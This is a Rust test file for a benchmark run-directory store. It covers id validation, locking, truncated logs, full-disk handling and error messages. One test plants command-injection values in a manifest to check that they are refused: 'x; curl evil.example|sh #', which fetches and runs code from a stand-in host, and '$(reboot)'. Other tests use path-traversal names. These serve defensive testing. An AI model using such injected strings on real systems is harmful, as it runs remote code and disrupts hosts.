//! The promises of a run directory to its callers.

mod common;
#[path = "../../../tests/lack.rs"]
mod lack;

use lack::{Lack, skipped};

use std::fs;
use std::path::Path;
use std::process::Command;

use bytecost_spec::manifest::{FORMAT, Leg};
use bytecost_spec::{Host, RunProgress};
use bytecost_store::{Root, Run, StoreError};
use common::{failure, manifest};

fn root() -> (tempfile::TempDir, Root) {
    let dir = tempfile::tempdir().unwrap();
    let root = Root::at(dir.path().join("runs"));
    (dir, root)
}

fn end(run: &mut Run, early: Option<&str>) {
    let ended = "2026-11-21T14:16:03Z".to_owned();
    run.end(ended, early.map(str::to_owned)).unwrap();
}

fn names(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    names
}

#[test]
fn a_name_is_used_once_and_runs_of_one_second_are_numbered() {
    let (_dir, root) = root();
    let _first = root.create(&manifest("one")).unwrap();
    assert!(matches!(
        root.create(&manifest("one")),
        Err(StoreError::Exists(_))
    ));
    for twin in ["", "-2", "-3"] {
        let run = root.create_fresh(manifest("")).unwrap();
        let id = format!("20261121-141503-send-copies{twin}");
        assert_eq!(run.manifest().id, id);
        for (at, name) in [
            (&root, &*id),
            (&Root::at("/nowhere"), run.dir().to_str().unwrap()),
        ] {
            assert_eq!(at.open(name).unwrap().manifest(), run.manifest());
        }
    }
}

#[test]
fn names_that_leave_the_root_are_refused() {
    let (dir, root) = root();
    let is_refused = |made| matches!(made, Err(StoreError::BadId(_)));
    for bad in [
        "", ".", "..", "../x", "/tmp/x", "a/b", "/", ".hidden", "-rf", "a b", "a\0b", "ü", "a\n",
    ] {
        assert!(is_refused(root.create(&manifest(bad))), "{bad:?}");
    }
    let [fits, long] = [128, 129].map(|bytes| manifest(&"a".repeat(bytes)));
    assert!(is_refused(root.create(&long)));
    let mut elsewhere = manifest("");
    elsewhere.study.name = "../../etc".to_owned();
    assert!(is_refused(root.create_fresh(elsewhere)));
    assert_eq!(names(dir.path()), Vec::<String>::new());
    root.create(&fits).unwrap();
}

#[test]
fn only_one_process_appends_at_a_time() {
    let (_dir, root) = root();
    let writer = root.create(&manifest("one")).unwrap();
    let mut second = root.open("one").unwrap();
    let error = second.append(&failure(0)).unwrap_err();
    assert!(matches!(error, StoreError::Locked(_)));
    assert!(error.to_string().contains("wait until it has ended"));
    assert_eq!(
        second.records().unwrap().records,
        [],
        "reading needs no lock"
    );
    drop(writer);
    second.append(&failure(0)).unwrap();
}

// Invariant 6.
#[test]
fn a_run_that_was_cut_short_continues_at_the_start_of_a_line() {
    let (_dir, root) = root();
    let mut run = root.create(&manifest("one")).unwrap();
    run.append(&failure(0)).unwrap();
    run.append(&failure(1)).unwrap();
    let log = run.dir().join("samples.jsonl");
    drop(run);
    let text = fs::read(&log).unwrap();
    fs::write(&log, &text[..text.len() - 5]).unwrap();
    let mut reopened = root.open("one").unwrap();
    let loaded = reopened.records().unwrap();
    assert_eq!(loaded.records, [failure(0)]);
    // Both lines are as long.
    assert_eq!(loaded.dropped_bytes, text.len() / 2 - 5);
    reopened.append(&failure(2)).unwrap();
    let continued = reopened.records().unwrap();
    assert_eq!(continued.records, [failure(0), failure(2)]);
    assert_eq!(continued.dropped_bytes, 0);
}

#[test]
fn the_list_shows_the_state_of_each_run() {
    let (_dir, root) = root();
    assert!(root.runs().unwrap().is_empty());
    let mut complete = root.create(&manifest("a-complete")).unwrap();
    complete.append(&failure(0)).unwrap();
    end(&mut complete, None);
    drop(complete);
    let mut early = root.create(&manifest("b-early")).unwrap();
    end(&mut early, Some("Ctrl-C"));
    drop(early);
    drop(root.create(&manifest("c-killed")).unwrap());
    let _running = root.create(&manifest("d-running")).unwrap();
    fs::create_dir(root.path().join("e-empty")).unwrap();
    fs::write(root.path().join("a-file"), "").unwrap();
    let mut resumed = root.open("b-early").unwrap();

    let list = root.runs().unwrap();
    let expected = RunProgress {
        id: "a-complete".into(),
        started: "2026-11-21T14:15:03.25Z".into(),
        study: "send-copies".into(),
        records: 1,
        state: "complete".into(),
    };
    assert_eq!(list[0], expected);
    let states: Vec<&str> = list[1..4].iter().map(|run| &*run.state).collect();
    let killed = "killed; --resume continues it";
    assert_eq!(states, ["ended early: Ctrl-C", killed, "running"]);
    let empty = &list[4];
    assert!(empty.id == "e-empty" && empty.state.starts_with("unreadable: "));
    assert!(empty.state.contains("no manifest.json") && list.len() == 5);

    resumed.resume().unwrap();
    assert_eq!(resumed.ending().unwrap(), None);
    assert_eq!(root.runs().unwrap()[1].state, "running");
}

#[test]
fn a_run_that_is_resumed_after_its_end_records_the_look_and_a_killed_one_does_not() {
    let (_dir, root) = root();
    let mut run = root.create(&manifest("one")).unwrap();
    run.append(&failure(0)).unwrap();
    drop(run);
    let mut killed = root.open("one").unwrap();
    killed.resume().unwrap();
    assert!(killed.manifest().looks.is_empty());
    end(&mut killed, None);
    drop(killed);
    root.open("one").unwrap().resume().unwrap();
    assert_eq!(root.open("one").unwrap().manifest().looks, [1]);
}

#[test]
fn the_list_is_in_the_order_of_creation() {
    let (_dir, root) = root();
    for _ in 0..11 {
        drop(root.create_fresh(manifest("")).unwrap());
    }
    let ids = root.names().unwrap();
    assert!(ids[1].ends_with("-2") && ids[9].ends_with("-10") && ids[10].ends_with("-11"));
}

#[test]
fn an_error_of_opening_has_reason_and_remedy() {
    let (_dir, root) = root();
    let check = |id: &str, parts: &[&str]| {
        let error = root.open(id).unwrap_err().to_string();
        for part in parts {
            assert!(error.contains(part), "{error}");
        }
        assert!(!error.contains('\n'), "{error}");
    };
    check("nothing", &["no run `nothing`", "bytecost runs"]);
    check("/no/such/place", &["no run `/no/such/place`"]);
    let dir = root.create(&manifest("x")).unwrap().dir().to_owned();
    let path = dir.join("manifest.json");
    let text = fs::read_to_string(&path).unwrap();
    for (broken, parts) in [
        (
            text.replacen(&format!("\"format\": {FORMAT}"), "\"format\": 7", 1),
            &[
                "written by another version of bytecost (format 7, this one reads 1)",
                "measure again",
            ][..],
        ),
        (
            "{\"format\": 9, \"what\": \"the future holds\"}".to_owned(),
            &["format 9"],
        ),
        (
            text.replacen(&format!("\"format\": {FORMAT}"), "\"format\": 0", 1),
            &["format 0"],
        ),
        (
            text[..40].to_owned(),
            &["manifest.json cannot be read", "line"],
        ),
        ("[]".to_owned(), &["cannot be read"]),
        (" ".repeat((16 << 20) + 1), &["larger than 16777216 bytes"]),
    ] {
        fs::write(&path, broken).unwrap();
        check("x", parts);
    }
    fs::remove_file(&path).unwrap();
    check("x", &["has no manifest.json", "delete it"]);
}

#[test]
fn outputs_are_next_to_the_samples_and_never_replace_them() {
    let (_dir, root) = root();
    let run = root.create(&manifest("one")).unwrap();
    run.write_output("report.md", b"# one").unwrap();
    let path = run.write_output("report.md", b"# two").unwrap();
    assert_eq!(fs::read(path).unwrap(), b"# two");
    let own = ["manifest.json", "samples.jsonl", "ended.json"];
    for bad in own.iter().chain(&["../x", "a/b", "", ".", "..", ".hidden"]) {
        assert!(
            matches!(run.write_output(bad, b""), Err(StoreError::BadOutput(_))),
            "{bad}"
        );
    }
    assert_eq!(
        names(run.dir()),
        ["manifest.json", "report.md", "samples.jsonl"]
    );
}

/// Runs itself again under a limit on file sizes, which accepts a part of a write and then refuses, as a
/// full disk does.
#[test]
fn a_full_disk_keeps_the_finished_trials_and_leaves_nothing_half_written() {
    const DIR: &str = "BYTECOST_TEST_FULL_DISK";
    if let Ok(dir) = std::env::var(DIR) {
        let mut run = Root::at(dir).open("one").unwrap();
        let mut written = 0;
        let error = loop {
            match run.append(&failure(written)) {
                Ok(()) => written += 1,
                Err(error) => break error,
            }
            assert!(written < 10_000, "the limit does not hold");
        };
        assert!(matches!(error, StoreError::Full { .. }), "{error}");
        assert!(error.to_string().contains("ulimit -f"), "{error}");
        let too_large = run.write_output("report.html", &[b'x'; 1 << 20]);
        assert!(matches!(too_large, Err(StoreError::Full { .. })));
        run.write_output("written", written.to_string().as_bytes())
            .unwrap();
        return;
    }
    let (_dir, root) = root();
    drop(root.create(&manifest("one")).unwrap());
    let status = Command::new("sh")
        .args(["-c", "trap '' XFSZ; ulimit -f 64; exec \"$0\" --exact a_full_disk_keeps_the_finished_trials_and_leaves_nothing_half_written"])
        .arg(std::env::current_exe().unwrap())
        .env(DIR, root.path())
        .output()
        .unwrap();
    assert!(status.status.success(), "{status:?}");
    let mut run = root.open("one").unwrap();
    let written: usize = fs::read_to_string(run.dir().join("written"))
        .unwrap()
        .parse()
        .unwrap();
    assert!(written > 10);
    let loaded = run.records().unwrap();
    assert_eq!((loaded.records.len(), loaded.dropped_bytes), (written, 0));
    assert_eq!(
        names(run.dir()),
        ["manifest.json", "samples.jsonl", "written"]
    );
    run.append(&failure(0)).unwrap();
    assert_eq!(run.records().unwrap().records.len(), written + 1);
}

#[test]
fn legs_are_recorded_and_no_sample_changes() {
    let (_dir, root) = root();
    let mut run = root.create(&manifest("one")).unwrap();
    run.append(&failure(0)).unwrap();
    let log = run.dir().join("samples.jsonl");
    let before = fs::read(&log).unwrap();
    let leg = Leg {
        first_block: 1,
        started: "2026-11-22T14:15:03Z".into(),
        bytecost_version: "0.2.0".into(),
        build_id: Some("ab".into()),
        host: Host::default(),
        differences: Vec::new(),
    };
    run.begin_leg(leg.clone()).unwrap();
    run.append(&failure(1)).unwrap();
    assert!(fs::read(&log).unwrap().starts_with(&before));
    drop(run);
    let reopened = root.open("one").unwrap();
    let manifest = reopened.manifest();
    assert_eq!(manifest.legs, [leg]);
    assert_eq!((manifest.leg_of(0), manifest.leg_of(1)), (0, 1));
    assert_eq!(manifest.measurer().build, Some("ab"));
}

// Invariant 6.
#[test]
fn lost_records_are_reported() {
    let (_dir, root) = root();
    let mut run = root.create(&manifest("one")).unwrap();
    for block in 0..3 {
        run.append(&failure(block)).unwrap();
    }
    assert_eq!(run.damage().unwrap(), None, "it continues");
    end(&mut run, None);
    assert_eq!(run.ending().unwrap().unwrap().records, Some(3));
    assert_eq!(run.damage().unwrap(), None);
    let log = run.dir().join("samples.jsonl");
    drop(run);
    let text = fs::read_to_string(&log).unwrap();
    let first = text.find('\n').unwrap() + 1;
    let state = || root.runs().unwrap().remove(0).state;
    assert_eq!(state(), "complete");
    fs::write(&log, &text[..first + 5]).unwrap();
    let damaged = |what| format!("damaged: {what}; --resume measures them again");
    let lost = "2 of its 3 records are missing from samples.jsonl";
    assert_eq!(state(), damaged(lost));
    fs::remove_file(&log).unwrap();
    assert_eq!(state(), damaged("samples.jsonl is missing"));
    fs::write(&log, "").unwrap();
    // A resumed run measures the lost records again.
    let mut reopened = root.open("one").unwrap();
    reopened.resume().unwrap();
    assert_eq!(reopened.damage().unwrap(), None);
}

#[test]
fn a_run_whose_names_would_be_a_command_is_refused() {
    let (_dir, root) = root();
    let run = root.create(&manifest("one")).unwrap();
    let path = run.dir().join("manifest.json");
    let written = fs::read_to_string(&path).unwrap();
    for (was, is) in [
        ("\"one\"", "\"x; curl evil.example|sh #\""),
        ("\"send-copies\"", "\"$(reboot)\""),
    ] {
        assert!(written.contains(was));
        fs::write(&path, written.replacen(was, is, 1)).unwrap();
        let why = root.open("one").unwrap_err();
        assert!(matches!(why, StoreError::Unreadable(..)), "{why}");
        assert!(!why.to_string().contains("curl"), "{why}");
    }
}

#[test]
fn a_log_or_a_study_without_a_bound_is_refused_at_once() {
    let (_dir, root) = root();
    let run = root.create(&manifest("one")).unwrap();
    let sparse = fs::OpenOptions::new()
        .write(true)
        .open(run.dir().join("samples.jsonl"));
    sparse.unwrap().set_len(200 << 30).unwrap();
    drop(run);
    let mut reopened = root.open("one").unwrap();
    let is_large = |why: StoreError| assert!(matches!(why, StoreError::TooLarge(..)), "{why}");
    is_large(reopened.records().unwrap_err());
    is_large(reopened.resume().unwrap_err());
    assert!(root.runs().unwrap()[0].state.starts_with("unreadable"));
    let mut many = manifest("two");
    many.study.blocks_most = u32::MAX;
    drop(root.create(&many).unwrap());
    let why = root.open("two").unwrap_err();
    assert!(why.to_string().contains("at most 10000"), "{why}");
}

#[test]
fn root_does_not_continue_a_run_of_another_user() {
    if !rustix::process::geteuid().is_root() {
        return skipped(Lack::Right, "it needs root");
    }
    let (_dir, root) = root();
    let run = root.create(&manifest("one")).unwrap();
    std::os::unix::fs::chown(run.dir(), Some(1234), None).unwrap();
    fs::write(run.dir().join("manifest.json"), "nothing that can be read").unwrap();
    let why = root.open_to_change("one").unwrap_err();
    assert!(matches!(why, StoreError::OfAnother(_, 1234)), "{why}");
}
